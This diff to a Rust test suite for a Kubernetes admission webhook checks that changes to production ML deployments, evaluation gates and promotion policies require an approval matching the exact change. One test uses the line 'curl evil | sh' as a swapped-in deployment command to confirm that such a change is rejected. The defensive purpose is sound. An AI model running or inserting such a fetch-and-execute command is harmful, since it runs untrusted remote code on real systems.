@@ -61,6 +61,7 @@ fn cluster(approvals: &[(&str, &str, &[&str])]) -> Namespace {
                              "creationTimestamp": format!("2026-11-26T10:0{i}:00Z")},
                 "spec": {"target": {"kind": "ModelAlias", "name": "pitch-frame-classifier-production"},
                          "version": version, "decision": "approve",
+                         "fromVersion": "7", "artifactDigest": DIGEST_8,
                          "approver": user, "approverGroups": groups}
             })
         })
@@ -68,10 +69,16 @@ fn cluster(approvals: &[(&str, &str, &[&str])]) -> Namespace {
     Namespace::of(objects, approvals)
 }
 
+/// Version 8's artifact digest as registered in the examples.
+const DIGEST_8: &str = "sha256:9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b";
+
+/// The production alias pointing at `version`, resolved to it.
 fn alias_object(version: &str) -> Value {
     json!({"apiVersion": "slipway.dev/v1alpha1", "kind": "ModelAlias",
-           "metadata": {"name": "pitch-frame-classifier-production", "namespace": "default"},
-           "spec": {"model": "pitch-frame-classifier", "alias": "production", "version": version}})
+           "metadata": {"name": "pitch-frame-classifier-production", "namespace": "default",
+                        "uid": "u-1", "generation": 4},
+           "spec": {"model": "pitch-frame-classifier", "alias": "production", "version": version},
+           "status": {"resolvedVersion": version}})
 }
 
 fn move_production(user: &str, groups: &[&str], cluster: &Namespace) -> Verdict {
@@ -150,9 +157,10 @@ fn approval_request(user: &str, spec: Value, op: Operation, old: Option<Value>) 
 
 #[test]
 fn approvals_are_stamped_with_their_creator_and_cannot_be_forged_or_changed() {
-    let spec = json!({"target": {"kind": "ModelAlias", "name": "x"}, "version": "8", "decision": "approve"});
+    let spec = json!({"target": {"kind": "ModelAlias", "name": "x"}, "version": "8", "decision": "approve",
+                      "fromVersion": "", "artifactDigest": ""});
     let req = approval_request("alice", spec.clone(), Operation::Create, None);
-    let patch = stamp(&req).unwrap();
+    let patch = stamp(&req, &Namespace::empty().view()).unwrap();
     assert_eq!(
         patch[0],
         json!({"op": "add", "path": "/spec/approver", "value": "alice"})
@@ -244,5 +252,231 @@ fn a_versions_artifact_cannot_change() {
     assert_eq!(
         validate(&req, &c.view(), Utc::now()),
         Verdict::Allowed(vec![])
+    );
+}
+
+/// The request `user` makes to change object `name` of `kind` from what the cluster has to
+/// `edit(old)`.
+fn edit(
+    c: &Namespace,
+    kind: &str,
+    name: &str,
+    user: &str,
+    edit: impl FnOnce(&mut Value),
+) -> Request {
+    let old = c
+        .objects
+        .iter()
+        .find(|o| o["kind"] == kind && o["metadata"]["name"] == name)
+        .unwrap()
+        .clone();
+    let mut new = old.clone();
+    edit(&mut new);
+    Request {
+        kind: kind.into(),
+        namespace: "default".into(),
+        name: name.into(),
+        operation: Operation::Update,
+        user: user.into(),
+        groups: vec!["ml-engineers".into()],
+        object: Some(new),
+        old_object: Some(old),
+    }
+}
+
+/// The `spec.change` a denial asks approvers to sign off.
+fn change_in(why: &str) -> String {
+    let at = why.find("spec.change \"").expect(why) + "spec.change \"".len();
+    why[at..at + 71].to_string()
+}
+
+fn change_approval(kind: &str, name: &str, change: &str) -> Approval {
+    serde_json::from_value(json!({
+        "apiVersion": "slipway.dev/v1alpha1", "kind": "Approval",
+        "metadata": {"name": "alice-change", "namespace": "default",
+                     "creationTimestamp": "2026-11-26T10:00:00Z"},
+        "spec": {"target": {"kind": kind, "name": name}, "change": change, "decision": "approve",
+                 "approver": "alice", "approverGroups": ["ml-leads"]}
+    }))
+    .unwrap()
+}
+
+#[test]
+fn pinning_the_production_deployment_needs_an_approval_of_exactly_that_change() {
+    let mut c = cluster(&[]);
+    let pin = |d: &mut Value| {
+        d["spec"].as_object_mut().unwrap().remove("alias");
+        d["spec"]["version"] = "7".into();
+    };
+    let req = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", pin);
+    let Verdict::Denied(why) = validate(&req, &c.view(), Utc::now()) else {
+        panic!("a promoter pinned production without approval");
+    };
+    assert!(why.starts_with("ModelDeployment default/pitch-frames-api: changing spec.alias, spec.version (requested by erin) is not allowed"), "{why}");
+    assert!(
+        why.contains("policy production-deployments, approval ml-lead: has 0 of 1"),
+        "{why}"
+    );
+    let change = change_in(&why);
+    c.approvals = vec![change_approval(
+        "ModelDeployment",
+        "pitch-frames-api",
+        &change,
+    )];
+    assert_eq!(
+        validate(&req, &c.view(), Utc::now()),
+        Verdict::Allowed(vec![])
+    );
+    // The approval signs off that change only: another image is not it.
+    let swap = edit(&c, "ModelDeployment", "pitch-frames-api", "erin", |d| {
+        d["spec"]["target"]["local"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    });
+    let Verdict::Denied(why) = validate(&swap, &c.view(), Utc::now()) else {
+        panic!("one approval signed off another change");
+    };
+    assert!(
+        why.contains(&format!(
+            "approval alice-change by alice signs off change {change}, not this one"
+        )),
+        "{why}"
+    );
+    // Deleting it is a change of production too; the staging deployment is not protected.
+    let delete = Request {
+        operation: Operation::Delete,
+        object: None,
+        ..req.clone()
+    };
+    assert!(matches!(
+        validate(&delete, &c.view(), Utc::now()),
+        Verdict::Denied(w) if w.contains("deleting it (requested by erin)")
+    ));
+    let staging = edit(&c, "ModelDeployment", "pitch-frames-staging", "erin", |d| {
+        d["spec"]["strategy"] = json!({"type": "AllAtOnce"});
+    });
+    assert_eq!(
+        validate(&staging, &c.view(), Utc::now()),
+        Verdict::Allowed(vec![])
+    );
+}
+
+#[test]
+fn loosening_how_a_model_is_judged_needs_an_approval_and_its_description_does_not() {
+    let c = cluster(&[]);
+    let loosen = edit(
+        &c,
+        "RegisteredModel",
+        "pitch-frame-classifier",
+        "erin",
+        |m| m["spec"]["evaluations"][0]["gates"] = json!([]),
+    );
+    let Verdict::Denied(why) = validate(&loosen, &c.view(), Utc::now()) else {
+        panic!("gates were dropped without approval");
+    };
+    assert!(why.contains("changing spec.evaluations[0].gates"), "{why}");
+    assert!(
+        why.contains("policy model-judging, approval ml-lead"),
+        "{why}"
+    );
+    let tolerance = edit(
+        &c,
+        "RegisteredModel",
+        "pitch-frame-classifier",
+        "erin",
+        |m| m["spec"]["primaryMetric"]["maxRegression"] = json!(0.5),
+    );
+    assert!(matches!(
+        validate(&tolerance, &c.view(), Utc::now()),
+        Verdict::Denied(_)
+    ));
+    let describe = edit(
+        &c,
+        "RegisteredModel",
+        "pitch-frame-classifier",
+        "erin",
+        |m| m["spec"]["description"] = "Classifies pitch frames.".into(),
+    );
+    assert_eq!(
+        validate(&describe, &c.view(), Utc::now()),
+        Verdict::Allowed(vec![])
+    );
+    // The policies themselves are protected.
+    let weaken = edit(&c, "PromotionPolicy", "production", "erin", |p| {
+        p["spec"]["approvals"] = json!([])
+    });
+    let Verdict::Denied(why) = validate(&weaken, &c.view(), Utc::now()) else {
+        panic!("a policy was weakened without approval");
+    };
+    assert!(
+        why.contains("policy policies-and-groups, approval ml-lead"),
+        "{why}"
+    );
+}
+
+#[test]
+fn an_alias_approval_is_stamped_with_the_move_it_signs_off() {
+    let mut c = cluster(&[]);
+    for o in &mut c.objects {
+        if o["kind"] == "ModelAlias" && o["spec"]["alias"] == "production" {
+            o["status"] = json!({"resolvedVersion": "7"});
+        }
+    }
+    let c = Namespace::of(c.objects, Vec::new());
+    let spec = json!({"target": {"kind": "ModelAlias", "name": "pitch-frame-classifier-production"},
+                      "version": "8", "decision": "approve"});
+    let req = approval_request("alice", spec, Operation::Create, None);
+    let patch = stamp(&req, &c.view()).unwrap();
+    assert!(
+        patch
+            .as_array()
+            .unwrap()
+            .contains(&json!({"op": "add", "path": "/spec/fromVersion", "value": "7"})),
+        "{patch}"
+    );
+    assert!(
+        patch
+            .as_array()
+            .unwrap()
+            .contains(&json!({"op": "add", "path": "/spec/artifactDigest", "value": DIGEST_8})),
+        "{patch}"
+    );
+    // Without the mutating webhook, an alias approval must say which move it signs off.
+    let mut bare = json!({"target": {"kind": "ModelAlias", "name": "x"}, "version": "8",
+                          "decision": "approve", "approver": "alice"});
+    let Verdict::Denied(why) = validate(
+        &approval_request("alice", bare.clone(), Operation::Create, None),
+        &Namespace::empty().view(),
+        Utc::now(),
+    ) else {
+        panic!("an unbound approval was admitted");
+    };
+    assert!(why.contains("spec.fromVersion is missing"), "{why}");
+    assert!(why.contains("spec.artifactDigest is missing"), "{why}");
+    bare["target"]["kind"] = "ModelDeployment".into();
+    let Verdict::Denied(why) = validate(
+        &approval_request("alice", bare, Operation::Create, None),
+        &Namespace::empty().view(),
+        Utc::now(),
+    ) else {
+        panic!("a deployment approval without a change was admitted");
+    };
+    assert!(why.contains("spec.change is missing"), "{why}");
+}
+
+#[test]
+fn an_approval_used_by_one_move_does_not_admit_the_same_move_again() {
+    let mut c = cluster(&[("alice", "8", &["ml-leads"])]);
+    c.approvals[0].status = Some(slipway_crd::approval::ApprovalStatus {
+        approved_at: None,
+        used_by: Some(
+            "ModelAlias/default/pitch-frame-classifier-production → 8 (generation 2, uid u-1)"
+                .into(),
+        ),
+    });
+    let Verdict::Denied(why) = move_production("erin", &["ml-engineers"], &c) else {
+        panic!("a used approval was counted again");
+    };
+    assert!(
+        why.contains("approval a0 by alice was used by ModelAlias/default/pitch-frame-classifier-production → 8 (generation 2"),
+        "{why}"
     );
 }
